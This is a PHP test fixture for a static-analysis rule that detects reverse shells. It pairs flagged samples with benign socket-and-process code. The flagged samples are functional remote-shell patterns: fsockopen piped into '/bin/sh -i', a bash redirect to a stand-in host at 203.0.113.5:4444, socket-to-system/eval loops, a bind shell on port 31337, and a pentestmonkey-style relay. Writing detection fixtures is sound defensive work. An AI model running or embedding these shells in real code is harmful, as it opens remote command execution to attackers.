<?php
// Fixture for php-reverse-shell.
// RULEID: fsockopen + proc_open with the socket as descriptors; @fsockopen + exec (or backticks) of
//   `sh -i <&3`; stream_socket_client + fgets loop into shell_exec; socket_create + socket_read into system;
//   a bind shell (stream_socket_accept) evaluating what it reads; socket_recv into passthru;
//   proc_open with descriptors array in long form; a socket-to-stdin-pipe relay (pentestmonkey shape).
// OK: an SMTP client reading replies; proc_open with pipes (not the socket); a command run after a
//   socket read that is not executed; a health check opening a socket then running a fixed command;
//   a mail body (not socket data) written into sendmail's stdin pipe.

function connect_back($host, $port)
{
    $sock = fsockopen($host, $port);
    // ruleid: php-reverse-shell
    $proc = proc_open('/bin/sh -i', [0 => $sock, 1 => $sock, 2 => $sock], $pipes);
}

$s = @fsockopen("203.0.113.5", 4444);
// ruleid: php-reverse-shell
exec("/bin/bash -i <&3 >&3 2>&3");

function ticks($h)
{
    $s2 = fsockopen($h, 9001);
    // ruleid: php-reverse-shell
    $o = `/bin/sh -i <&3 >&3 2>&3`;
    // ok: php-reverse-shell
    $u = `uname -a 2>&1`;
}

function agent($addr)
{
    $c = stream_socket_client("tcp://$addr", $errno, $errstr, 30);
    while (!feof($c)) {
        $line = fgets($c, 4096);
        // ruleid: php-reverse-shell
        $out = shell_exec(trim($line) . ' 2>&1');
        fwrite($c, $out);
    }
}

function raw_socket($ip)
{
    $sk = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
    socket_connect($sk, $ip, 8443);
    while (true) {
        $cmd = socket_read($sk, 2048, PHP_NORMAL_READ);
        ob_start();
        // ruleid: php-reverse-shell
        system($cmd);
        socket_write($sk, ob_get_clean());
    }
}

function bind_shell()
{
    $server = stream_socket_server("tcp://0.0.0.0:31337");
    $client = stream_socket_accept($server);
    while ($code = fread($client, 8192)) {
        // ruleid: php-reverse-shell
        eval($code);
    }
}

function recv_shell($srv)
{
    $conn = socket_accept($srv);
    socket_recv($conn, $buf, 1024, 0);
    // ruleid: php-reverse-shell
    passthru($buf);
}

function long_form($h)
{
    $fp = pfsockopen($h, 53);
    $spec = array(0 => $fp, 1 => $fp, 2 => $fp);
    // ruleid: php-reverse-shell
    proc_open("cmd.exe", array(0 => $fp, 1 => $fp, 2 => $fp), $p);
}

function relay($ip, $port)
{
    $shell = 'uname -a; id; /bin/sh -i';
    $sock = fsockopen($ip, $port, $errno, $errstr, 30);
    $spec = array(0 => array("pipe", "r"), 1 => array("pipe", "w"), 2 => array("pipe", "w"));
    $process = proc_open($shell, $spec, $pipes);
    stream_set_blocking($sock, 0);
    while (!feof($sock)) {
        $input = fread($sock, 1400);
        // ruleid: php-reverse-shell
        fwrite($pipes[0], $input);
        $output = fread($pipes[1], 1400);
        fwrite($sock, $output);
    }
}

function mailer_pipe($host, $body)
{
    $smtp = fsockopen($host, 25);
    $reply = fgets($smtp, 515);
    $proc = proc_open('/usr/sbin/sendmail -t', [0 => ['pipe', 'r']], $pipes);
    // ok: php-reverse-shell
    fwrite($pipes[0], $body);
    return $reply;
}

function smtp_hello($host)
{
    $smtp = fsockopen($host, 25, $errno, $errstr, 10);
    $banner = fgets($smtp, 515);
    fwrite($smtp, "EHLO localhost\r\n");
    // ok: php-reverse-shell
    error_log("smtp said " . $banner);
    return $smtp;
}

function run_with_pipes($cmd)
{
    $sock = fsockopen('127.0.0.1', 6379);
    $spec = [0 => ['pipe', 'r'], 1 => ['pipe', 'w'], 2 => ['pipe', 'w']];
    // ok: php-reverse-shell
    $proc = proc_open($cmd, $spec, $pipes);
    return $proc;
}

function redis_then_command($key)
{
    $r = fsockopen('127.0.0.1', 6379);
    fwrite($r, "GET $key\r\n");
    $reply = fgets($r);
    // ok: php-reverse-shell
    exec('logger ' . escapeshellarg('cache miss'), $out);
    return $reply;
}

function probe()
{
    $fp = @fsockopen('db.internal', 5432, $e, $s, 2);
    // ok: php-reverse-shell
    exec('/usr/local/bin/restart-db.sh 2>&1', $lines);
}
